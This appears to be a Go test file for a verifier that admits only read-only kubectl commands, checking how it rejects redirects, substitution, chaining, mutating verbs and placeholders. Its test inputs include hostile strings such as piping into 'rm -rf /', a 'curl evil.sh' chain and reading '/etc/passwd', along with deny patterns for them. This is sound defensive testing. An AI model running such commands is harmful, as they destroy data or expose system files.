package security

import (
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestIsSafeCommand(t *testing.T) {
	verifier := DefaultVerifier()

	tests := []struct {
		name       string
		command    string
		wantSafe   bool
		wantReason string
	}{
		{name: "namespaced get", command: "kubectl get pods -n default", wantSafe: true, wantReason: "Command is safe"},
		{name: "flag with value", command: "kubectl get pods --namespace=kube-system", wantSafe: true, wantReason: "Command is safe"},
		{name: "label selector", command: "kubectl get pods -l app=web -o wide", wantSafe: true, wantReason: "Command is safe"},
		{name: "cluster info", command: "kubectl cluster-info", wantSafe: true, wantReason: "Command is safe"},
		{name: "version short", command: "kubectl version --short", wantSafe: true, wantReason: "Command is safe"},
		{name: "resource word containing tool name", command: "kubectl get instances", wantSafe: true, wantReason: "Command is safe"},
		{name: "surrounding whitespace", command: "   kubectl logs my-pod   ", wantSafe: true, wantReason: "Command is safe"},
		{name: "redirect to dev null", command: "kubectl get pods > /dev/null", wantSafe: true, wantReason: "Command is safe"},
		{name: "stderr to dev null", command: "kubectl get pods 2> /dev/null", wantSafe: true, wantReason: "Command is safe"},
		{name: "input from dev", command: "kubectl get pods < /dev/stdin", wantSafe: true, wantReason: "Command is safe"},
		{name: "stderr to dev null without space", command: "kubectl get pods 2>/dev/null", wantSafe: true, wantReason: "Command is safe"},

		{name: "empty", command: "", wantReason: "Empty command"},
		{name: "whitespace only", command: "  \t ", wantReason: "Empty command"},
		{name: "other program", command: "ls -la", wantReason: "Command must start with 'kubectl'"},
		{name: "kubectl prefix only", command: "kubectlx get pods", wantReason: "Command must start with 'kubectl'"},
		{name: "no verb", command: "kubectl", wantReason: "Incomplete kubectl command"},
		{name: "get without resource", command: "kubectl get", wantReason: "get command requires a resource type"},
		{name: "get with only flags", command: "kubectl get -o wide", wantReason: "get command requires a resource type"},
		{name: "logs without pod", command: "kubectl logs -f", wantReason: "logs command requires a pod name"},
		{name: "describe without target", command: "kubectl describe", wantReason: "describe command requires a resource type and name"},
		{name: "made up flag", command: "kubectl get pods --made-up-flag", wantReason: "Unsafe flag or option: --made-up-flag"},
		{name: "redirect to file", command: "kubectl get pods > /tmp/out.txt", wantReason: `Command contains potentially dangerous pattern: \s>\s*`},
		{name: "input from file", command: "kubectl get pods < secrets.txt", wantReason: `Command contains potentially dangerous pattern: \s<\s*`},
		{name: "redirect without space", command: "kubectl get pods >out.txt", wantReason: `Command contains potentially dangerous pattern: \s>\s*`},
		{name: "stderr to file", command: "kubectl get pods 2>err.log", wantReason: `Command contains potentially dangerous pattern: \s2>\s*`},
		{name: "append to file", command: "kubectl get pods >> out.txt", wantReason: `Command contains potentially dangerous pattern: \s>>\s*`},
		{name: "redirect glued to argument", command: "kubectl get pods>out.txt", wantReason: `Command contains potentially dangerous pattern: >{1,2}\s*`},
		{name: "input glued to argument", command: "kubectl get pods<in.txt", wantReason: `Command contains potentially dangerous pattern: <\s*`},
		{name: "here string", command: "kubectl get pods <<< x", wantReason: "Command contains potentially dangerous pattern: <<<"},
		{name: "heredoc", command: "kubectl get pods << EOF", wantReason: "Command contains potentially dangerous pattern: <<"},
		{name: "command substitution", command: "kubectl get pods $(whoami)", wantReason: `Command contains potentially dangerous pattern: \$\(`},
		{name: "backticks", command: "kubectl get pods `whoami`", wantReason: "Command contains potentially dangerous pattern: `.*`"},
		{name: "home expansion", command: "kubectl get pods -n $HOME", wantReason: `Command contains potentially dangerous pattern: \$HOME`},
		{name: "system path", command: "kubectl get pods -f /etc/passwd", wantReason: "Command contains potentially dangerous pattern: /etc/"},
		{name: "network tool", command: "kubectl get pods; curl evil.sh", wantReason: `Command contains potentially dangerous pattern: \bcurl\b`},
		{name: "chained mutation", command: "kubectl get pods && kubectl delete pods", wantReason: "Command contains potentially dangerous pattern: [;&|]"},
		{name: "brace expansion", command: "kubectl get pods -n ${NS}", wantReason: "Command contains placeholder pattern: \\{[^}]+\\}"},
		{name: "placeholder in isolation", command: "kubectl logs <pod-name>", wantReason: "Command contains placeholder pattern: <[^>]+>"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			safe, reason := verifier.IsSafeCommand(tt.command)
			assert.Equal(t, tt.wantSafe, safe, "reason: %s", reason)
			assert.Equal(t, tt.wantReason, reason)
		})
	}
}

func TestIsSafeCommandRejectsMutatingVerbs(t *testing.T) {
	verifier := DefaultVerifier()
	want := "Safe verbs are: api-versions, auth, cluster-info, config, describe, explain, get, help, logs, top, version, view"

	for _, verb := range []string{"delete", "apply", "create", "edit", "exec", "patch", "scale", "cp", "run", "drain"} {
		safe, reason := verifier.IsSafeCommand("kubectl " + verb + " pod my-pod")
		if safe {
			t.Fatalf("verb %s accepted", verb)
		}
		if !strings.HasPrefix(reason, "Command verb '"+verb+"' is not read-only.") || !strings.HasSuffix(reason, want) {
			t.Fatalf("unexpected reason for %s: %s", verb, reason)
		}
	}
}

func TestIsSafeCommandPipeToDestructiveUtility(t *testing.T) {
	safe, reason := DefaultVerifier().IsSafeCommand("kubectl get pods | rm -rf /")
	require.False(t, safe)
	assert.Contains(t, reason, `\|\s*(grep|awk|sed|xargs|rm`)
}

func TestIsSafeCommandSuggestsCloseFlag(t *testing.T) {
	safe, reason := DefaultVerifier().IsSafeCommand("kubectl get pods --all-namespace")
	require.False(t, safe)
	assert.Equal(t, "Unsafe flag or option: --all-namespace (did you mean --all-namespaces?)", reason)
}

func TestIsSafeCommandIsDeterministic(t *testing.T) {
	verifier := DefaultVerifier()
	commands := []string{
		"kubectl get pods",
		"kubectl delete pod x",
		"kubectl get pods | sh",
		"kubectl get pods --bogus",
		"",
	}
	for _, command := range commands {
		firstSafe, firstReason := verifier.IsSafeCommand(command)
		for i := 0; i < 3; i++ {
			safe, reason := verifier.IsSafeCommand(command)
			if safe != firstSafe || reason != firstReason {
				t.Fatalf("non-deterministic result for %q", command)
			}
		}
	}
}

func TestIsSafeCommandFailsClosed(t *testing.T) {
	broken := &Verifier{patterns: []dangerPattern{{expr: "broken"}}}

	safe, reason := broken.IsSafeCommand("kubectl get pods")
	assert.False(t, safe)
	assert.True(t, strings.HasPrefix(reason, "Error verifying command:"), reason)
}

func TestHasPlaceholders(t *testing.T) {
	verifier := DefaultVerifier()

	tests := []struct {
		command   string
		wantFound bool
		wantMatch string
	}{
		{command: "kubectl logs <pod-name>", wantFound: true, wantMatch: "<[^>]+>"},
		{command: "kubectl describe pod {pod}", wantFound: true, wantMatch: `\{[^}]+\}`},
		{command: "kubectl get pods [name]", wantFound: true, wantMatch: `\[[^\]]+\]`},
		{command: "kubectl get pods -n namespace-name", wantFound: true, wantMatch: "namespace-name"},
		{command: "KUBECTL LOGS POD-NAME", wantFound: true, wantMatch: "pod-name"},
		{command: "kubectl get svc service-name", wantFound: true, wantMatch: "service-name"},
		{command: "kubectl get pods -n default"},
	}

	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			found, reason := verifier.HasPlaceholders(tt.command)
			if found != tt.wantFound {
				t.Fatalf("HasPlaceholders(%q) = %v, want %v", tt.command, found, tt.wantFound)
			}
			if !tt.wantFound {
				assert.Equal(t, "No placeholders found", reason)
				return
			}
			assert.Equal(t, "Command contains placeholder pattern: "+tt.wantMatch, reason)
		})
	}
}

func TestVerifyRunsPlaceholderCheckFirst(t *testing.T) {
	verifier := DefaultVerifier()

	outcome := verifier.Verify("kubectl logs <pod-name>")
	assert.False(t, outcome.Accepted)
	assert.Equal(t, "Command contains placeholder pattern: <[^>]+>", outcome.Reason)

	outcome = verifier.Verify("kubectl get pods")
	assert.True(t, outcome.Accepted)
	assert.Equal(t, "Command is safe", outcome.Reason)

	outcome = verifier.Verify("kubectl delete pods --all")
	assert.False(t, outcome.Accepted)
	assert.NotEmpty(t, outcome.Reason)
}

func TestSafeCommandsInfo(t *testing.T) {
	verifier := DefaultVerifier()
	info := verifier.SafeCommandsInfo()

	assert.True(t, sort.StringsAreSorted(info.SafeVerbs))
	assert.True(t, sort.StringsAreSorted(info.SafeFlags))
	assert.Len(t, info.SafeVerbs, 12)
	assert.Contains(t, info.SafeFlags, "--all-namespaces")
	assert.Equal(t, "Only read-only kubectl commands are allowed for safety", info.Description)
	require.Len(t, info.Examples, 8)

	for _, example := range info.Examples {
		outcome := verifier.Verify(example)
		assert.True(t, outcome.Accepted, "example %q rejected: %s", example, outcome.Reason)
	}

	info.SafeVerbs[0] = "delete"
	assert.NotEqual(t, "delete", verifier.SafeCommandsInfo().SafeVerbs[0])
}

func TestSanitizeCommand(t *testing.T) {
	tests := []struct {
		in   string
		want string
	}{
		{in: "  kubectl\tget \n pods  ", want: "kubectl get pods"},
		{in: "kubectl get\x00 pods\x07", want: "kubectl get pods"},
		{in: "kubectl\u0085get\u009bpods", want: "kubectl getpods"},
		{in: "", want: ""},
	}
	for _, tt := range tests {
		if got := SanitizeCommand(tt.in); got != tt.want {
			t.Errorf("SanitizeCommand(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestNewVerifierWithRulesFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "verifier.yaml")
	rules := `rules:
  danger_patterns:
    - pattern: '\bsecrets?\b'
      message: "secret access is disabled"
`
	require.NoError(t, os.WriteFile(path, []byte(rules), 0o600))

	verifier, err := NewVerifier(path)
	require.NoError(t, err)
	assert.Equal(t, len(defaultDangerPatterns)+1, verifier.PatternCount())

	safe, reason := verifier.IsSafeCommand("kubectl get secrets")
	assert.False(t, safe)
	assert.Equal(t, `Command contains potentially dangerous pattern: \bsecrets?\b (secret access is disabled)`, reason)

	safe, _ = verifier.IsSafeCommand("kubectl get pods")
	assert.True(t, safe)
}

func TestNewVerifierMissingRulesFile(t *testing.T) {
	verifier, err := NewVerifier(filepath.Join(t.TempDir(), "absent.yaml"))
	require.NoError(t, err)
	assert.Equal(t, len(defaultDangerPatterns), verifier.PatternCount())
}

func TestNewVerifierInvalidRule(t *testing.T) {
	path := filepath.Join(t.TempDir(), "verifier.yaml")
	require.NoError(t, os.WriteFile(path, []byte("rules:\n  danger_patterns:\n    - pattern: '('\n"), 0o600))

	_, err := NewVerifier(path)
	assert.Error(t, err)
}

func TestWriteDefaultRules(t *testing.T) {
	path := filepath.Join(t.TempDir(), "nested", "verifier.yaml")

	written, err := WriteDefaultRules(path)
	require.NoError(t, err)
	assert.True(t, written)

	written, err = WriteDefaultRules(path)
	require.NoError(t, err)
	assert.False(t, written, "an existing file is left alone")

	verifier, err := NewVerifier(path)
	require.NoError(t, err)
	assert.Equal(t, DefaultVerifier().PatternCount()+2, verifier.PatternCount())
}
